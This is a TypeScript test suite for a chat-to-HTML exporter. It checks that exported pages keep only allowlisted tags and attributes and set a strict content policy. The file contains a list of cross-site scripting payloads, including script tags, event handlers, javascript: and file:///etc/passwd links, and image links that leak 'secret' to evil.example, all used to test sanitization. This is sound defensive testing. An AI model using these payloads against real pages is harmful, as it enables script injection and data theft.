import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import fc from 'fast-check';
import type { MessagePart } from '../../../../src/core/message.js';
import { eventsOf, OrderedHistory, sample, type Whole } from '../support/conversations.js';
import { exported } from '../support/exporting.js';

async function html(...all: readonly Whole[]): Promise<string> {
  const history = new OrderedHistory();
  for (const whole of all) await history.append(eventsOf(whole), 'synced');
  return exported(history, 'html');
}

function saying(...parts: readonly MessagePart[]): Whole {
  return {
    ...sample,
    conversation: { ...sample.conversation, headId: 'm' },
    messages: [{ ...sample.messages[0]!, id: 'm', parts }],
    jobs: [],
  };
}

const says = (text: string): Whole => saying({ type: 'text', text });

/** What may be in a document, and nothing else: elements with their attributes. */
const elements: Readonly<Record<string, readonly string[]>> = {
  html: ['lang'],
  head: [],
  meta: ['charset', 'http-equiv', 'content', 'name'],
  title: [],
  style: [],
  body: [],
  main: [],
  nav: ['aria-labelledby'],
  strong: ['id'],
  ol: ['start'],
  ul: [],
  li: [],
  a: ['href', 'rel', 'dir', 'download'],
  h1: ['id', 'dir'],
  h2: ['id', 'dir'],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  p: ['class'],
  section: ['class', 'aria-labelledby'],
  article: ['class'],
  header: [],
  footer: [],
  time: ['datetime'],
  div: ['class', 'dir', 'tabindex'],
  span: ['class', 'title', 'dir'],
  pre: ['tabindex'],
  code: [],
  details: [],
  summary: [],
  figure: [],
  img: ['src', 'alt'],
  blockquote: [],
  em: [],
  s: [],
  br: [],
  hr: [],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['class'],
  td: ['class'],
};

/** Every element of a document that is not as it must be. */
function faults(document: string): string[] {
  const all: string[] = [];
  for (const [tag, name, attributes] of document
    .replace(/<style>[^<]*<\/style>/u, '')
    .replace('<!doctype html>', '')
    .matchAll(/<\/?([a-z0-9-]*)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*>|</giu)) {
    const allowed = name === undefined ? undefined : elements[name];
    if (allowed === undefined) all.push(tag);
    for (const [, attribute, value = ''] of (attributes ?? '').matchAll(/([a-z-]+)="([^"]*)"/gu)) {
      const isSound =
        allowed?.includes(attribute!) === true &&
        (attribute !== 'href' ||
          /^(?:#chat-\d+$|https?:&#?|https?:|mailto:|data:application\/pdf;base64,)/u.test(value)) &&
        (attribute !== 'src' || /^data:image\/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$/u.test(value));
      if (!isSound) all.push(`${name} ${attribute}="${value}"`);
    }
  }
  return all;
}

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '[click](javascript:alert(1))',
  '[click](vbscript:x) [file](file:///etc/passwd) [data](data:text/html,<script>alert(1)</script>) [command](command:x)',
  '![leak](https://evil.example/?q=secret)',
  '[![leak](https://evil.example/a.png)](https://evil.example)',
  '![svg](data:image/svg+xml;base64,PHN2Zz4=)',
  '<style>@import url(https://evil.example)</style></style></main></body>',
  '```"><script>\n</code></pre><script>alert(1)</script>\n```',
  '| a | b |\n|:-:|--:|\n| <b>x</b> | `</td>` |',
  '<https://evil.example/" onmouseover="alert(1)>',
  'https://evil.example/"onmouseover="alert(1)',
  '&lt;script&gt; &#60;script&#62; \u0000 \ud83d \u2028',
  '<!-- --> <![CDATA[x]]> <?php ?> </article></section>',
];

describe('a chat as HTML', () => {
  it('runs nothing and loads nothing, whatever was said', async () => {
    for (const text of hostile) assert.deepEqual(faults(await html(says(text))), [], text);
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.oneof(
            fc.constantFrom(...hostile),
            fc.string({ unit: 'binary', maxLength: 20 }),
            fc.constantFrom('\n\n', '> ', '- ', '```', '![', '](', '"', '<', "'"),
          ),
        ),
        async (pieces) => {
          assert.deepEqual(faults(await html(says(pieces.join('')))), []);
        },
      ),
      { numRuns: 300 },
    );
  }).timeout(60_000);

  it('lets nothing out of titles, names, models, tags, tools, sources and attachments', async () => {
    const [question] = sample.messages;
    for (const text of hostile) {
      const whole: Whole = {
        conversation: { ...sample.conversation, title: text, tags: [text], headId: 'm' },
        messages: [
          {
            ...question!,
            id: 'm',
            role: 'assistant',
            provider: text,
            model: text,
            parts: [
              { type: 'reasoning', text },
              { type: 'refusal', text },
              { type: 'tool-call', id: text, name: text, input: { [text]: text } },
              { type: 'tool-result', callId: text, output: text, isError: true },
              { type: 'citation', citation: { url: text, title: text } },
              { type: 'citation', citation: { url: `https://example.org/${text}`, title: text } },
              { type: 'file', mediaType: text, data: text, name: text },
              { type: 'file', mediaType: 'image/png', data: text, name: text },
              { type: 'file', mediaType: 'application/pdf', data: 'JVBERg==', name: text },
              { type: 'opaque', vendor: text, data: text },
            ],
          },
        ],
        jobs: [],
      };
      assert.deepEqual(faults(await html(whole)), [], text);
      assert.deepEqual(
        faults(
          await html(whole, {
            ...whole,
            conversation: { ...whole.conversation, id: text.replaceAll('\0', '').toWellFormed() },
          }),
        ),
        [],
        text,
      );
    }
  });

  it('links to its sources, whatever they are called, and to nothing that is no page', async () => {
    const citations = [
      ['https://example.org/a\\', '![a'],
      ['https://example.org/b', 'see http://example.org/c `x'],
      ['javascript:alert(1)', 'd'],
    ].map(([url, title]) => ({ type: 'citation', citation: { url: url!, title: title! } }) as const);
    const text = await html(saying(...citations));
    const items = [...text.matchAll(/<li>(.*)<\/li>/gu)].map(([, item]) => item);
    assert.deepEqual(items, [
      '<a href="https://example.org/a\\" rel="noreferrer noopener">![a</a>',
      '<a href="https://example.org/b" rel="noreferrer noopener">see http://example.org/c `x</a>',
      '<span title="javascript:alert(1)">d</span>',
    ]);
  });

  it('holds what is nested deeper than the parser goes, and what follows', async () => {
    for (const deep of ['- '.repeat(50), '- '.repeat(200), '> '.repeat(100), '> '.repeat(101), '1) > '.repeat(40)]) {
      const document = await html(says(`${deep}word\n\nthe rest`));
      assert.match(document, /word[^]*the rest/u, deep);
      assert.deepEqual(faults(document), []);
    }
  });

  it('sees what it must not hold', () => {
    assert.deepEqual(faults('<p><script>x</script></p>'), ['<script>', '</script>']);
    assert.deepEqual(faults('<p onclick="x"></p>'), ['p onclick="x"']);
    assert.deepEqual(faults('<img src="https://x/" alt="">'), ['img src="https://x/"']);
    assert.deepEqual(faults('<a href="javascript:x">'), ['a href="javascript:x"']);
    assert.deepEqual(faults('a < b'), ['<']);
  });

  it('allows its one style by its hash, and pictures that are in it', async () => {
    const document = await html(sample);
    const style = /<style>([^<]*)<\/style>/u.exec(document)![1]!;
    const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/u.exec(document)![1]!;
    assert.equal(
      policy,
      `default-src 'none'; style-src 'sha256-${createHash('sha256').update(style).digest('base64')}'; img-src data:; base-uri 'none'; form-action 'none'`,
    );
  });

  it('renders Markdown, colours code, folds tools, and begins headings below its own', async () => {
    const document = await html(
      says('# Title\n\n**bold** ~~old~~\n\n```js\nconst a = "<b>";\n```\n\n- one\n\n[site](https://example.org)'),
    );
    assert.match(document, /<h3>Title<\/h3>/u);
    assert.match(document, /<strong>bold<\/strong> <s>old<\/s>/u);
    assert.match(
      document,
      /<span class="language">js<\/span><pre tabindex="0"><code><span class="hljs-keyword">const<\/span>/u,
    );
    assert.match(document, /&quot;&lt;b&gt;&quot;/u);
    assert.match(
      document,
      /<a href="https:&#?.*rel="noreferrer noopener">site<\/a>|<a href="https:\/\/example\.org" rel="noreferrer noopener">site<\/a>/u,
    );
    assert.match(await html(sample), /<details><summary>Tool: oven<\/summary>/u);
  });

  it('leaves out no level of headings, wherever a text begins', async () => {
    const document = await html(
      says('### First\n\n###### Below\n\n##### Beside\n\n# Next\n\nUnder\n---\n\n> ### Quoted'),
    );
    const shown = [...document.matchAll(/<(h[3-6])>([^<]*)<\/\1>/gu)].map(([, tag, text]) => `${tag} ${text}`);
    assert.deepEqual(shown, ['h3 First', 'h4 Below', 'h4 Beside', 'h3 Next', 'h4 Under', 'h5 Quoted']);
  });

  it('of one chat is called after it; of several has a table of contents', async () => {
    assert.match(await html(sample), /<title>Bread<\/title>[\s\S]*<h1 id="chat-1" dir="auto">Bread<\/h1>/u);
    const several = await html(sample, {
      ...sample,
      conversation: { ...sample.conversation, id: 'other', title: 'Cake' },
    });
    assert.match(
      several,
      /<h1>Chats<\/h1>[\s\S]*<nav[\s\S]*href="#chat-1"[\s\S]*href="#chat-2"[\s\S]*<h2 id="chat-1"/u,
    );
  });

  it('holds pictures and documents, says when, by whom, and that it was interrupted', async () => {
    const picture = await html(
      saying(
        { type: 'file', mediaType: 'image/png', data: 'iVBORw0KGgo=', name: 'a.png' },
        { type: 'file', mediaType: 'application/pdf', data: 'JVBERg==', name: 'b.pdf' },
      ),
    );
    assert.match(picture, /<img src="data:image\/png;base64,iVBORw0KGgo=" alt="Attachment: a\.png \(image\/png\)">/u);
    assert.match(picture, /<a href="data:application\/pdf;base64,JVBERg==" download="b\.pdf">/u);
    assert.match(picture, /<time datetime="2026-01-02T03:04:00\.000Z">2 Jan 2026, 03:04<\/time>/u);
    const interrupted = await html({ ...sample, conversation: { ...sample.conversation, headId: '0196-a2' } });
    assert.match(interrupted, /Assistant \(openai · gpt-5\)[\s\S]*Interrupted\.[\s\S]*In other branches: 1/u);
  });
});
